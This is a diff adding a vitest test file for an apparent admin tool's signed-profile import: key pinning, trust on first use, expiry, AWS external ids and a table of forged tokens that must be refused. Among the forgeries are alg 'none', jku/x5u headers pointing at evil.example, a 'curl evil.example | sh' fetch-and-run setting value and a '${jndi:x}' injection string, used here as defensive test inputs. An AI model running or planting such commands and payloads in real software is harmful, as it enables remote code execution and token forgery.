@@ -1,0 +1,227 @@
+import { createHmac } from 'node:crypto';
+import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
+import type { AwsFake, FakePrincipal } from '../fakes/aws/aws-fake.js';
+import { awsEnv, startAwsFake } from '../support/aws-env.js';
+import { CUSTOMER_ACCOUNT, type Harness, PARTNER_ACCOUNT, createHarness } from '../support/harness.js';
+import { ENGINEER, type PlatformTestKey, platformExternalId, platformKey, profilePayload, signProfile, signProfileRaw } from '../support/profile.js';
+
+const nowSec = (h: Harness) => Math.floor(h.clock.now() / 1000);
+
+interface Imported {
+  profile: { state: string; jti: string; orgIds: string[]; trust: { mode: string; fingerprints: string[] } };
+  inspection: { jti: string; keyFingerprint: string; trust: string; changes: { changedExternalIds: string[] } };
+}
+
+describe('platform profiles: import, trust on first use, and what they configure', () => {
+  let aws: AwsFake;
+  let session: FakePrincipal;
+  let key: PlatformTestKey;
+  let h: Harness;
+
+  beforeAll(async () => {
+    ({ fake: aws, session } = await startAwsFake());
+    key = platformKey();
+  });
+  afterAll(async () => {
+    await aws.stop();
+  });
+  afterEach(() => h?.close());
+
+  /** The AWS fake's endpoints and the engineer's own session, but no partner account and no HMAC key. */
+  const laptop = () => {
+    const env = awsEnv(aws, session);
+    delete env.ALPHASWARM_ADMIN_CLOUD_AWS_EXTERNAL_ID_SECRET;
+    delete env.ALPHASWARM_ADMIN_AWS_PARTNER_ACCOUNT_ID;
+    return env;
+  };
+
+  it('first import shows the key fingerprint and needs it confirmed; then the profile configures AWS', async () => {
+    h = await createHarness({ env: laptop() });
+    const before = await h.ok<{ clouds: { cloud: string; ready: boolean; missing: { purpose: string }[] }[]; profile: { state: string } }>('settings:status', {});
+    expect(before.profile.state).toBe('none');
+    expect(before.clouds.find((c) => c.cloud === 'aws')).toMatchObject({ ready: false, missing: expect.arrayContaining([expect.objectContaining({ purpose: "AlphaSwarm's AWS partner account id" })]) });
+
+    const text = signProfile(key, profilePayload(nowSec(h)));
+    const inspected = await h.ok<{ trust: string; keyFingerprint: string; engineer: { email: string }; orgIds: string[] }>('settings:inspectProfile', { text });
+    expect(inspected).toMatchObject({ trust: 'first-use', keyFingerprint: key.kid, engineer: { email: ENGINEER.email }, orgIds: ['acme-corp', 'globex'] });
+
+    // Not without the engineer's confirmation, and never with a fingerprint that is not the signer's.
+    expect(await h.fails('settings:importProfile', { text })).toMatchObject({ code: 'precondition_failed', details: { fingerprint: key.kid, reason: 'trust_required' } });
+    expect(await h.fails('settings:importProfile', { text, acceptFingerprint: platformKey().kid })).toMatchObject({ code: 'precondition_failed', message: expect.stringMatching(/not by the key you confirmed/) });
+    expect(h.services.profiles.status().state).toBe('none');
+
+    const imported = await h.ok<Imported>('settings:importProfile', { text, acceptFingerprint: key.kid });
+    expect(imported.profile).toMatchObject({ state: 'active', orgIds: ['acme-corp', 'globex'], trust: { mode: 'first-use', fingerprints: [key.kid] } });
+    const after = await h.ok<{ clouds: { cloud: string; ready: boolean }[]; general: unknown[]; externalIds: { source: string } }>('settings:status', {});
+    expect(after.clouds.find((c) => c.cloud === 'aws')!.ready).toBe(true);
+    expect(after.externalIds.source).toBe('profile');
+    expect(h.services.settings.resolve('ALPHASWARM_ADMIN_AWS_PARTNER_ACCOUNT_ID')).toMatchObject({ value: '111122223333', source: 'profile' });
+
+    const row = h.services.audit.list({ limit: 5, step: 'profile_import' }).rows[0]!;
+    expect(row).toMatchObject({ outcome: 'succeeded', detail: { jti: imported.inspection.jti, engineer: ENGINEER.email, keyFingerprint: key.kid, trust: 'first-use' } });
+    // Who did it: the engineer the profile names, from now on.
+    expect(h.services.actor).toBe(`app:${ENGINEER.email}`);
+    expect(JSON.stringify([...h.services.audit.all()])).not.toContain(text.split('.')[1]!.slice(0, 40));
+  });
+
+  it('later profiles must be signed by the pinned key; an older one never replaces a newer', async () => {
+    h = await createHarness({ env: laptop() });
+    const first = profilePayload(nowSec(h));
+    await h.ok('settings:importProfile', { text: signProfile(key, first), acceptFingerprint: key.kid });
+
+    const stranger = platformKey();
+    const foreign = await h.fails('settings:importProfile', { text: signProfile(stranger, profilePayload(nowSec(h))), acceptFingerprint: stranger.kid });
+    expect(foreign).toMatchObject({ details: { reason: 'unknown_kid' }, hint: expect.stringMatching(/ALPHASWARM_ADMIN_PLATFORM_PROFILE_KEYS/) });
+
+    const older = signProfile(key, profilePayload(nowSec(h), { iat: (first.iat as number) - 3600 }));
+    expect(await h.fails('settings:importProfile', { text: older })).toMatchObject({ details: { reason: 'downgrade' }, message: expect.stringMatching(/before the one in use/) });
+    // The same profile again changes nothing.
+    expect(await h.ok('settings:importProfile', { text: signProfile(key, first) })).toMatchObject({ profile: { jti: first.jti } });
+    h.clock.advance(60_000);
+    const newer = profilePayload(nowSec(h), { orgs: [{ org_id: 'acme-corp', aws_external_id: platformExternalId('acme-corp', 'rotated-platform-key-0123456789') }] });
+    const r = await h.ok<Imported>('settings:importProfile', { text: signProfile(key, newer) });
+    expect(r.profile).toMatchObject({ jti: newer.jti, orgIds: ['acme-corp'] });
+    expect(r.inspection.changes.changedExternalIds).toEqual(['acme-corp']);
+  });
+
+  it('pinned by ALPHASWARM_ADMIN_PLATFORM_PROFILE_KEYS: no trust on first use, an ES256 key works too', async () => {
+    const es = platformKey('ES256');
+    h = await createHarness({ env: { ...laptop(), ALPHASWARM_ADMIN_PLATFORM_PROFILE_KEYS: JSON.stringify({ keys: [es.publicJwk] }) } });
+    await h.ok('settings:importProfile', { text: signProfile(es, profilePayload(nowSec(h))) });
+    expect(h.services.profiles.status()).toMatchObject({ state: 'active', trust: { mode: 'configured', fingerprints: [es.kid] } });
+    // A profile by any other key is refused even with a confirmation: the setting decides.
+    expect(await h.fails('settings:importProfile', { text: signProfile(key, profilePayload(nowSec(h))), acceptFingerprint: key.kid })).toMatchObject({ details: { reason: 'alg_not_pinned' } });
+  });
+
+  it('an expired profile stops being used, and says so', async () => {
+    h = await createHarness({ env: laptop() });
+    await h.ok('settings:importProfile', { text: signProfile(key, profilePayload(nowSec(h), { exp: nowSec(h) + 3600 })), acceptFingerprint: key.kid });
+    expect(h.services.awsIdentity.externalId('acme-corp').source).toBe('profile');
+    h.clock.advance(2 * 3600_000);
+    const status = await h.ok<{ profile: { state: string; message: string }; clouds: { cloud: string; ready: boolean }[] }>('settings:status', {});
+    expect(status.profile).toMatchObject({ state: 'expired', message: expect.stringMatching(/expired on .*no longer used/) });
+    expect(status.clouds.find((c) => c.cloud === 'aws')!.ready).toBe(false);
+    expect(h.services.settings.resolve('ALPHASWARM_ADMIN_AWS_PARTNER_ACCOUNT_ID').source).toBe('unset');
+    expect(await h.fails('cloud:bootstrap', { cloud: 'aws', orgId: 'acme-corp' })).toMatchObject({ code: 'config_missing' });
+    expect(h.services.actor).toMatch(/\(not verified\)$/);
+  });
+
+  it('with no HMAC key anywhere, the profile gives AWS its external id end to end; an unassigned org fails', async () => {
+    h = await createHarness({ env: { ...laptop() } });
+    await h.ok('settings:importProfile', { text: signProfile(key, profilePayload(nowSec(h))), acceptFingerprint: key.kid });
+    const boot = await h.ok<{ externalId: string; externalIdSource: string; roleName: string }>('cloud:bootstrap', { cloud: 'aws', orgId: 'acme-corp' });
+    expect(boot).toMatchObject({ externalId: platformExternalId('acme-corp'), externalIdSource: 'profile', roleName: 'alphaswarm-broker-acme-corp' });
+    // A per-org role name from the profile.
+    expect(await h.ok('cloud:bootstrap', { cloud: 'aws', orgId: 'globex' })).toMatchObject({ roleName: 'AlphaSwarmGlobex', roleNameSource: 'profile' });
+
+    aws.roles.clear();
+    aws.addRole({ accountId: CUSTOMER_ACCOUNT, roleName: 'alphaswarm-broker-acme-corp', trustedAccountId: PARTNER_ACCOUNT, externalIds: [platformExternalId('acme-corp')] });
+    await h.stepUp('acme-corp');
+    const target = { cloud: 'aws', orgId: 'acme-corp', roleArn: `arn:aws:iam::${CUSTOMER_ACCOUNT}:role/alphaswarm-broker-acme-corp` };
+    await h.ok('cloud:validateIdentity', target);
+    await h.ok('cloud:validatePermissions', target);
+    const saved = await h.ok<{ connection: { record: { external_id: string } } }>('cloud:connect', target);
+    expect(saved.connection.record.external_id).toBe(platformExternalId('acme-corp'));
+
+    const unassigned = await h.fails('cloud:bootstrap', { cloud: 'aws', orgId: 'initech' });
+    expect(unassigned).toMatchObject({ code: 'config_missing', message: 'initech is not assigned to you: import a profile that includes it, or set ALPHASWARM_ADMIN_CLOUD_AWS_EXTERNAL_ID_SECRET.' });
+    // Checked before step-up: an unassigned org never costs a code.
+    h.services.grants.revokeAll();
+    expect(await h.fails('cloud:validateIdentity', { ...target, orgId: 'initech', roleArn: target.roleArn })).toMatchObject({ code: 'config_missing' });
+  });
+
+  it('a profile and an HMAC key that disagree are refused, showing both', async () => {
+    const hmac = 'admin-machine-hmac-key-0123456789';
+    h = await createHarness({ env: { ...laptop(), ALPHASWARM_ADMIN_CLOUD_AWS_EXTERNAL_ID_SECRET: hmac } });
+    await h.ok('settings:importProfile', { text: signProfile(key, profilePayload(nowSec(h))), acceptFingerprint: key.kid });
+    const e = await h.fails('cloud:bootstrap', { cloud: 'aws', orgId: 'acme-corp' });
+    const derived = createHmac('sha256', hmac).update('aws:acme-corp').digest('hex');
+    expect(e).toMatchObject({ code: 'config_invalid', details: { profileExternalId: platformExternalId('acme-corp'), keyExternalId: derived } });
+    expect(e.message).toContain('Nothing was chosen');
+    // Where the key gives an id the profile does not know, the key is used.
+    expect(await h.ok('cloud:bootstrap', { cloud: 'aws', orgId: 'initech' })).toMatchObject({ externalIdSource: 'key', externalId: createHmac('sha256', hmac).update('aws:initech').digest('hex') });
+  });
+
+  it('a newer profile with a different external id marks the connection rotated and hands out the dual-id policy', async () => {
+    h = await createHarness({ env: laptop() });
+    await h.ok('settings:importProfile', { text: signProfile(key, profilePayload(nowSec(h))), acceptFingerprint: key.kid });
+    aws.roles.clear();
+    const role = aws.addRole({ accountId: CUSTOMER_ACCOUNT, roleName: 'alphaswarm-broker-acme-corp', trustedAccountId: PARTNER_ACCOUNT, externalIds: [platformExternalId('acme-corp')] });
+    await h.stepUp('acme-corp');
+    const target = { cloud: 'aws', orgId: 'acme-corp', roleArn: role.arn };
+    await h.ok('cloud:validateIdentity', target);
+    await h.ok('cloud:validatePermissions', target);
+    await h.ok('cloud:connect', target);
+
+    h.clock.advance(60_000);
+    const rotatedId = platformExternalId('acme-corp', 'rotated-platform-key-0123456789');
+    await h.ok('settings:importProfile', { text: signProfile(key, profilePayload(nowSec(h), { orgs: [{ org_id: 'acme-corp', aws_external_id: rotatedId }] })) });
+    const [listed] = (await h.ok<{ connections: { status: string }[] }>('cloud:list', { orgId: 'acme-corp' })).connections;
+    expect(listed!.status).toBe('rotated_key');
+    const boot = await h.ok<{ rotation: { oldExternalId: string; newExternalId: string } }>('cloud:bootstrap', { cloud: 'aws', orgId: 'acme-corp' });
+    expect(boot.rotation).toMatchObject({ oldExternalId: platformExternalId('acme-corp'), newExternalId: rotatedId });
+  });
+});
+
+describe('platform profiles: every rejection class, each with its reason', () => {
+  let h: Harness;
+  let key: PlatformTestKey;
+  beforeAll(async () => {
+    key = platformKey();
+    h = await createHarness();
+    // Pin the key first, so every forgery below is judged against a pinned key.
+    await h.ok('settings:importProfile', { text: signProfile(key, profilePayload(nowSec(h))), acceptFingerprint: key.kid });
+  });
+  afterAll(() => h.close());
+
+  const now = () => nowSec(h);
+  const header = (o: Record<string, unknown> = {}) => JSON.stringify({ alg: 'EdDSA', typ: 'alphaswarm-profile+jwt', kid: key.kid, ...o });
+  const body = (o: Record<string, unknown> = {}) => JSON.stringify(profilePayload(now(), { iat: now() + 1, ...o }));
+  const b64 = (s: string) => Buffer.from(s).toString('base64url');
+
+  const cases: [string, () => string, string, RegExp][] = [
+    ['alg none', () => `${b64(header({ alg: 'none' }))}.${b64(body())}.`, 'alg_none', /unsigned/],
+    ['an HMAC algorithm', () => `${b64(header({ alg: 'HS256' }))}.${b64(body())}.${b64('x'.repeat(32))}`, 'alg_hmac', /HMAC/],
+    ['an algorithm the key does not pin', () => signProfileRaw(key, header({ alg: 'ES256' }), body()), 'alg_not_pinned', /pins EdDSA/],
+    ['a critical extension', () => signProfileRaw(key, header({ crit: ['exp'] }), body()), 'crit', /critical/],
+    ['b64: false', () => signProfileRaw(key, header({ b64: false }), body()), 'bad_header', /"b64"/],
+    ['a key URL (jku)', () => signProfileRaw(key, header({ jku: 'https://evil.example/keys' }), body()), 'bad_header', /"jku"/],
+    ['a certificate URL (x5u)', () => signProfileRaw(key, header({ x5u: 'https://evil.example/cert' }), body()), 'bad_header', /"x5u"/],
+    ['an embedded key that is not the kid', () => signProfileRaw(key, header({ jwk: platformKey().publicJwk }), body()), 'bad_header', /thumbprint/],
+    ['another token type', () => signProfileRaw(key, header({ typ: 'JWT' }), body()), 'wrong_type', /not "alphaswarm-profile\+jwt"/],
+    ['an unknown key', () => signProfileRaw(key, header({ kid: 'x'.repeat(43) }), body()), 'unknown_kid', /not among the trusted keys/],
+    ['a bad signature', () => signProfileRaw(platformKey(), header(), body()), 'bad_signature', /signature does not match/],
+    ['a key named twice', () => signProfileRaw(key, header(), body().replace('"iss":', '"iss":"https://evil.example","iss":')), 'duplicate_key', /"iss" twice/],
+    ['another JSON spelling', () => signProfileRaw(key, header(), JSON.stringify(JSON.parse(body()), null, 1)), 'malformed', /exact form/],
+    ['a secret in its settings', () => signProfileRaw(key, header(), body({ settings: { ALPHASWARM_ADMIN_CLOUD_AWS_EXTERNAL_ID_SECRET: 'x'.repeat(40) } })), 'bad_payload', /a secret/],
+    ['a setting only the engineer may set', () => signProfileRaw(key, header(), body({ settings: { ALPHASWARM_ADMIN_OIDC_TOKEN_COMMAND: 'curl evil.example | sh' } })), 'bad_payload', /only you may set/],
+    ['an unknown setting', () => signProfileRaw(key, header(), body({ settings: { ALPHASWARM_ADMIN_NOPE: 'x' } })), 'bad_payload', /does not know/],
+    ['an invalid setting value', () => signProfileRaw(key, header(), body({ settings: { ALPHASWARM_ADMIN_AZURE_AUDIENCE: '${jndi:x}' } })), 'bad_payload', /ALPHASWARM_ADMIN_AZURE_AUDIENCE/],
+    ['an org assigned twice', () => signProfileRaw(key, header(), body({ orgs: [{ org_id: 'a1', aws_external_id: 'abc' }, { org_id: 'a1', aws_external_id: 'abd' }] })), 'bad_payload', /assigned twice/],
+    ['an external id AWS would refuse', () => signProfileRaw(key, header(), body({ orgs: [{ org_id: 'a1', aws_external_id: 'has space' }] })), 'bad_payload', /external id/],
+    ['sub not the engineer', () => signProfileRaw(key, header(), body({ sub: 'mallory@evil.example' })), 'bad_payload', /names mallory/],
+    ['another issuer', () => signProfileRaw(key, header(), body({ iss: 'https://evil.example/platform' })), 'wrong_issuer', /issued by/],
+    ['expired', () => signProfileRaw(key, header(), body({ iat: now() - 7200, exp: now() - 3600 })), 'expired', /expired at/],
+    ['issued in the future', () => signProfileRaw(key, header(), body({ iat: now() + 7200 })), 'not_yet_valid', /in the future/],
+    ['valid for ten years', () => signProfileRaw(key, header(), body({ exp: now() + 3650 * 86400 })), 'lifetime_too_long', /at most 400 days/],
+    ['too large', () => signProfileRaw(key, header(), body({ engineer: { name: 'x'.repeat(3_000_000), email: 'jane@alpha-swarm.ai' } })), 'too_large', /limit/],
+    ['an encrypted JWE', () => 'eyJhbGciOiJSU0EtT0FFUC0yNTYifQ.a.b.c.d', 'malformed', /encrypted JWE/],
+  ];
+
+  for (const [name, make, reason, message] of cases) {
+    it(`refuses ${name} (${reason}), and changes nothing`, async () => {
+      const before = h.services.profiles.status().jti;
+      const text = make();
+      if (Buffer.byteLength(text) > 2 * 1024 * 1024) {
+        // Bigger than the window may send: the contract refuses it before anything reads it.
+        expect(await h.fails('settings:importProfile', { text })).toMatchObject({ code: 'payload_too_large' });
+        return;
+      }
+      const e = await h.fails('settings:importProfile', { text });
+      expect(e).toMatchObject({ details: { reason } });
+      expect(e.message).toMatch(message);
+      expect(e.hint.length).toBeGreaterThan(10);
+      expect(h.services.profiles.status().jti).toBe(before);
+    });
+  }
+});
